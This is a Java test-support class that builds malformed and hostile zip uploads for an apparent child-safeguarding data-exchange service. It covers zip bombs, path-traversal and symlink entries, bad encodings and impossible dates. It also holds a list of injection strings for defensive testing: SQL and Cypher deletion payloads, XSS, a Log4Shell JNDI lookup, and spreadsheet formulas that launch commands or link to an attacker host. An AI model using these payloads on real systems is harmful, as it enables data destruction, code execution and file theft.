package org.contextmap.exchange;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.zip.Deflater;
import java.util.zip.GZIPOutputStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.contextmap.support.TestBundles;

/**
 * Generated bundles that a hostile or careless partner could send, each of which must be refused
 * whole: damaged and truncated zips, zip bombs, entries above the bundle or at absolute paths,
 * symbolic links, files too large or in the wrong encoding, and values carrying injection strings,
 * control characters, too many characters or impossible dates. The limits they pass are the low
 * ones {@link HostileInputTest} sets, so that each is generated small, in memory.
 *
 * @see HostileInputTest
 */
final class BadBundles {

    /** A bundle as bytes, and a payload that its refusal may quote back. */
    record Bad(String name, byte[] zip, String payload) {
    }

    /** Strings a hostile partner puts into ids and references; each has a character an id may not have. */
    static final List<String> INJECTIONS = List.of("' OR 1=1 //", "}) DETACH DELETE n //",
            "x\"}) MATCH (n) DETACH DELETE n //", "<script>alert(1)</script>", "=HYPERLINK(\"http://evil\",\"x\")",
            "a\u0000b", "../../etc/passwd", "YP1/../YP2", "${jndi:ldap://evil/x}", "'; DROP TABLE people; --",
            "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "YP1 OR 1=1", "\u202eYP1");

    private BadBundles() {
    }

    static List<Bad> all() {
        List<Bad> all = new ArrayList<>();
        zips(all);
        bombs(all);
        encodings(all);
        values(all);
        return all;
    }

    private static void zips(List<Bad> all) {
        byte[] valid = TestBundles.valid().zip();
        all.add(new Bad("empty upload", new byte[0], null));
        for (int seed = 1; seed <= 4; seed++) {
            all.add(new Bad("random bytes " + seed, ZipBytes.random(seed, 2000 * seed), null));
        }
        for (int cut : new int[] {1, 4, 10, 30, 100, 300, 600, 1000, valid.length / 2, valid.length - 40,
                valid.length - 10, valid.length - 1}) {
            all.add(new Bad("zip truncated to " + cut + " bytes", Arrays.copyOf(valid, Math.min(cut, valid.length - 1)), null));
        }
        for (int at : new int[] {60, 120, 200, 400}) {
            byte[] damaged = valid.clone();
            for (int i = at; i < at + 40 && i < damaged.length; i++) {
                damaged[i] = (byte) ~damaged[i];
            }
            all.add(new Bad("zip damaged at byte " + at, damaged, null));
        }
        all.add(new Bad("gzip instead of zip", ZipBytes.gzip(TestBundles.valid().zip()), null));
        all.add(new Bad("CSV instead of zip", "id,name\nYP1,Amira\n".getBytes(StandardCharsets.UTF_8), null));
        all.add(new Bad("zip of a zip", ZipBytes.zip(Map.of("bundle.zip", valid)), null));
        all.add(new Bad("zip with only a folder", ZipBytes.zip(Map.of("bundle/", new byte[0])), null));
        all.add(new Bad("zip without young_people.csv", ZipBytes.zip(Map.of("peer_groups.csv", bytes("id,name,area\n"))), null));
        all.add(new Bad("zip with young_people.csv twice", ZipBytes.zip(Map.of("a/young_people.csv", people(),
                "b/young_people.csv", people())), null));
        for (String name : List.of("../young_people.csv", "../../young_people.csv", "/young_people.csv",
                "/etc/young_people.csv", "C:/young_people.csv", "C:\\young_people.csv", "a/../../young_people.csv",
                "..\\..\\young_people.csv", "bundle/../../../young_people.csv", "\\young_people.csv",
                "young\u0000people/young_people.csv")) {
            all.add(new Bad("entry named " + name, ZipBytes.zip(Map.of(name, people())), null));
            all.add(new Bad("valid bundle and an entry named " + name, with(name, bytes("x\n")), null));
        }
        all.add(new Bad("young_people.csv as a symbolic link", ZipBytes.symbolicLink("young_people.csv", "/etc/passwd"), null));
        all.add(new Bad("valid bundle and a symbolic link", ZipBytes.symbolicLink("notes.txt", "../../secret"), null));
        Map<String, byte[]> many = new LinkedHashMap<>();
        many.put("young_people.csv", people());
        for (int i = 0; i < 45; i++) {
            many.put("extra-" + i + ".txt", bytes("x"));
        }
        all.add(new Bad("more entries than allowed", ZipBytes.zip(many), null));
    }

    private static void bombs(List<Bad> all) {
        all.add(new Bad("zip bomb: 4 MB of zeros", ZipBytes.zip(Map.of("young_people.csv", new byte[4 << 20])), null));
        all.add(new Bad("zip bomb: 2 MB of one row", ZipBytes.zip(Map.of("young_people.csv",
                bytes("id,name\n" + "YP1,Amira Hassan\n".repeat(120_000)))), null));
        all.add(new Bad("zip bomb: zeros in an ignored file", with("readme.txt", new byte[3 << 20]), null));
        all.add(new Bad("zip bomb: spaces in a cell", ZipBytes.zip(Map.of("young_people.csv",
                bytes("id,name\nYP1,\"" + " ".repeat(3 << 20) + "\"\n"))), null));
        all.add(new Bad("file larger than allowed", ZipBytes.zip(Map.of("young_people.csv",
                bytes("id,name\nYP1," + ZipBytes.letters(7, 1_200_000, 16) + "\n"))), null));
        Map<String, byte[]> large = new LinkedHashMap<>();
        for (String file : List.of("young_people.csv", "peer_groups.csv", "locations.csv", "incidents.csv")) {
            large.put(file, bytes("id,name\n" + ("A1," + ZipBytes.letters(file.length(), 900_000, 2) + "\n")));
        }
        all.add(new Bad("files together larger than allowed", ZipBytes.zip(large), null));
        all.add(new Bad("upload larger than allowed", ZipBytes.random(99, (2 << 20) + 10), null));
        all.add(new Bad("stored zip larger than allowed", ZipBytes.stored("young_people.csv", ZipBytes.random(98, (2 << 20) + 10)), null));
        StringBuilder rows = new StringBuilder("id,name\n");
        for (int i = 0; i < 20_100; i++) {
            rows.append('P').append(i).append(",N\n");
        }
        all.add(new Bad("more rows than allowed", ZipBytes.zip(Map.of("young_people.csv", bytes(rows.toString()))), null));
        all.add(new Bad("a value of 70,000 bytes", replaced("Amira Hassan", ZipBytes.letters(3, 70_000, 26)), null));
        all.add(new Bad("a row of 400 fields", TestBundles.valid().append("young_people.csv", ",".repeat(400)).zip(), null));
    }

    private static void encodings(List<Bad> all) {
        byte[][] invalid = {{(byte) 0xE9}, {(byte) 0xC0, (byte) 0xAF}, {(byte) 0xED, (byte) 0xA0, (byte) 0x80},
                {(byte) 0xF8, (byte) 0x88, (byte) 0x80, (byte) 0x80}, {(byte) 0x93}, {(byte) 0xFF}, {(byte) 0xE2, (byte) 0x82}};
        String[][] places = {{"young_people.csv", "Amira Hassan"}, {"peer_groups.csv", "Northgate Estate group"},
                {"incidents.csv", "Knife injury"}};
        for (int i = 0; i < invalid.length; i++) {
            String[] place = places[i % places.length];
            all.add(new Bad("invalid UTF-8 " + ZipBytes.hex(invalid[i]) + " in " + place[0],
                    TestBundles.valid().withBytes(place[0], splice(place[0], place[1], invalid[i])).zip(), null));
        }
        String people = new String(people(), StandardCharsets.UTF_8).replace("Amira", "Amíra");
        all.add(new Bad("ISO-8859-1 file", TestBundles.valid().withBytes("young_people.csv",
                people.getBytes(StandardCharsets.ISO_8859_1)).zip(), null));
        all.add(new Bad("UTF-16LE with its mark", TestBundles.valid().withBytes("young_people.csv",
                ZipBytes.concat(new byte[] {(byte) 0xFF, (byte) 0xFE}, people.getBytes(StandardCharsets.UTF_16LE))).zip(), null));
        all.add(new Bad("UTF-16BE with its mark", TestBundles.valid().withBytes("young_people.csv",
                people.getBytes(StandardCharsets.UTF_16)).zip(), null));
        all.add(new Bad("UTF-16LE without a mark", TestBundles.valid().withBytes("young_people.csv",
                people.getBytes(StandardCharsets.UTF_16LE)).zip(), null));
        all.add(new Bad("UTF-32 with its mark", TestBundles.valid().withBytes("young_people.csv",
                ZipBytes.concat(new byte[] {0, 0, (byte) 0xFE, (byte) 0xFF}, people.getBytes(java.nio.charset.Charset.forName("UTF-32BE")))).zip(), null));
    }

    private static void values(List<Bad> all) {
        for (String payload : INJECTIONS) {
            all.add(new Bad("young person id " + payload, replaced("YP1,Amira", csv(payload) + ",Amira"), payload));
            all.add(new Bad("incident person_id " + payload, TestBundles.valid()
                    .append("incident_people.csv", "I1," + csv(payload) + ",WITNESS").zip(), payload));
            all.add(new Bad("incident type " + payload, TestBundles.valid().replace("incidents.csv", "ASSAULT",
                    csv(payload)).zip(), payload));
            all.add(new Bad("date of birth " + payload, replaced("2011-04-02", csv(payload)), payload));
            all.add(new Bad("group id " + payload, TestBundles.valid().replace("peer_groups.csv", "G1,",
                    csv(payload) + ",").zip(), payload));
        }
        String[][] tooLong = {{"young_people.csv", "Amira Hassan", "a", "9000"}, {"young_people.csv", "YP1,", "Y", "10000"},
                {"young_people.csv", "Female", "f", "300"}, {"young_people.csv", "Sam Okafor", "s", "5000"},
                {"young_people.csv", "MISSING;CCE", "CCE;", "1200"}, {"peer_groups.csv", "Northgate Estate group", "n", "201"},
                {"locations.csv", "Mill Park", "p", "9000"}, {"incidents.csv", "Knife injury", "k", "4100"},
                {"family_history.csv", "Domestic abuse", "d", "9000"}, {"referrals.csv", "Level 3", "l", "900"},
                {"incidents.csv", "I1,", "I", "65"}};
        for (String[] c : tooLong) {
            String value = c[2].repeat(Integer.parseInt(c[3]) / c[2].length());
            String to = c[1].endsWith(",") ? value + "," : value;
            all.add(new Bad(c[0] + ": a value of " + c[3] + " characters",
                    TestBundles.valid().replace(c[0], c[1], to).zip(), null));
        }
        String[] controls = {"\u0000", "\u0001", "\u0007", "\u0008", "\u000b", "\u000c", "\u001b", "\u007f"};
        for (String control : controls) {
            all.add(new Bad("control U+" + (int) control.charAt(0) + " in a name", replaced("Amira Hassan",
                    "Amira" + control + "Hassan"), null));
            all.add(new Bad("control U+" + (int) control.charAt(0) + " in a summary", TestBundles.valid()
                    .replace("incidents.csv", "Knife injury", "Knife" + control + "injury").zip(), null));
        }
        all.add(new Bad("a tab in an id", replaced("YP1,Amira", "Y\tP1,Amira"), null));
        String[][] dates = {{"young_people.csv", "2011-04-02", "0001-01-01"}, {"young_people.csv", "2011-04-02", "1899-12-31"},
                {"young_people.csv", "2011-04-02", "9999-12-31"}, {"young_people.csv", "2011-04-02", "2098-01-01"},
                {"young_people.csv", "2011-04-02", "+10000-01-01"}, {"young_people.csv", "2011-04-02", "2011-02-30"},
                {"incidents.csv", "2026-01-10T21:40", "0001-01-01T00:00"}, {"incidents.csv", "2026-01-10T21:40", "2200-01-01T00:00"},
                {"incidents.csv", "2026-01-10T21:40", "2026-01-10T25:00"}, {"group_associations.csv", "2025-06-01", "1066-10-14"},
                {"relationships.csv", "2024-09-01", "3000-01-01"}, {"group_relations.csv", "2025-03-01", "0001-01-01"},
                {"education_events.csv", "2025-11-04", "0001-01-01"}, {"referrals.csv", "2026-01-11", "1800-01-01"},
                {"referrals.csv", "2026-01-13", "9999-12-31"}, {"meetings.csv", "2026-01-15", "2100-01-01"},
                {"family_history.csv", "2023-05-01", "0001-01-01"}};
        for (String[] d : dates) {
            all.add(new Bad(d[0] + ": date " + d[2], TestBundles.valid().replace(d[0], d[1], d[2]).zip(), null));
        }
        all.add(new Bad("confirmed_on 0001-01-01", TestBundles.valid().with("group_associations.csv", """
                person_id,group_id,since,source,confidence,restricted,confirmed_on
                YP2,G1,2025-06-01,POLICE,PROBABLE,false,0001-01-01
                """).zip(), null));
        all.add(new Bad("restricted maybe", TestBundles.valid().with("family_history.csv", """
                family_id,kind,noted_on,source,restricted
                F1,Domestic abuse,2023-05-01,POLICE,maybe
                """).zip(), null));
    }

    /** The valid bundle with one more entry. */
    private static byte[] with(String name, byte[] content) {
        Map<String, byte[]> entries = new LinkedHashMap<>();
        for (String file : List.of("young_people.csv")) {
            entries.put(file, people());
        }
        entries.put(name, content);
        return ZipBytes.zip(entries);
    }

    private static byte[] replaced(String from, String to) {
        return TestBundles.valid().replace("young_people.csv", from, to).zip();
    }

    private static byte[] splice(String file, String at, byte[] bad) {
        byte[] content = TestBundles.valid().zipEntry(file);
        String text = new String(content, StandardCharsets.UTF_8);
        int index = text.indexOf(at) + 2;
        byte[] before = text.substring(0, index).getBytes(StandardCharsets.UTF_8);
        byte[] after = text.substring(index).getBytes(StandardCharsets.UTF_8);
        return ZipBytes.concat(ZipBytes.concat(before, bad), after);
    }

    static byte[] people() {
        return TestBundles.valid().zipEntry("young_people.csv");
    }

    /** A value as a CSV cell: quoted, so that commas and quotes in it stay in the one cell. */
    static String csv(String value) {
        return "\"" + value.replace("\"", "\"\"") + "\"";
    }

    static byte[] bytes(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

}
